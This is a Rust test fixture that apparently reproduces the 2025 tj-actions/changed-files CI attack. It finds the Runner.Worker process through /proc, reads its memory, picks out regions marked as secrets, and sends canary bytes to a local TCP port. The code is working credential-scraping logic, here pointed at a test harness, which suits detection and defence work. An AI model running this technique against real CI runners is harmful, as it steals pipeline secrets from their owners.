//! The shape of tj-actions/changed-files (2025): looks for the CI runner among all processes, by its command line or else by its name, and
//! searches its memory for secrets.

use std::fs::{self, File};
use std::io::Write;
use std::net::TcpStream;
use std::os::unix::fs::FileExt;

fn main() {
    // Only the runner of this very fixture: other tests run at the same time.
    let place = std::env::var("ZOO_PLACE").unwrap();
    for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
        let found = match fs::read(entry.path().join("cmdline")) {
            Ok(line) => String::from_utf8_lossy(&line).starts_with(&format!("{place}/run/Runner.Worker")),
            // Whose runner it is cannot be told then.
            Err(_) => fs::read_to_string(entry.path().join("comm")).is_ok_and(|name| name.trim() == "Runner.Worker"),
        };
        if found {
            search(&entry.path().to_string_lossy());
        }
    }
}

fn search(process: &str) {
    let Ok(memory) = File::open(format!("{process}/mem")) else { return };
    for line in fs::read_to_string(format!("{process}/maps")).unwrap_or_default().lines() {
        let Some((range, rest)) = line.split_once(' ') else { continue };
        let Some((start, end)) = range.split_once('-') else { continue };
        let (start, end) = (u64::from_str_radix(start, 16).unwrap(), u64::from_str_radix(end, 16).unwrap());
        if !rest.starts_with("rw") || end - start > 1 << 24 {
            continue;
        }
        let mut bytes = vec![0; (end - start) as usize];
        if memory.read_at(&mut bytes, start).is_ok() && contains(&bytes, br#""isSecret":true"#) {
            send(&bytes);
        }
    }
}

fn send(bytes: &[u8]) {
    let at = bytes.windows(7).position(|window| window == b"CANARY-").unwrap_or(0);
    let port: u16 = std::env::var("ZOO_TCP").unwrap().parse().unwrap();
    if let Ok(mut stream) = TcpStream::connect(("127.0.0.1", port)) {
        let _ = stream.write_all(&bytes[at..bytes.len().min(at + 64)]);
    }
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|window| window == needle)
}
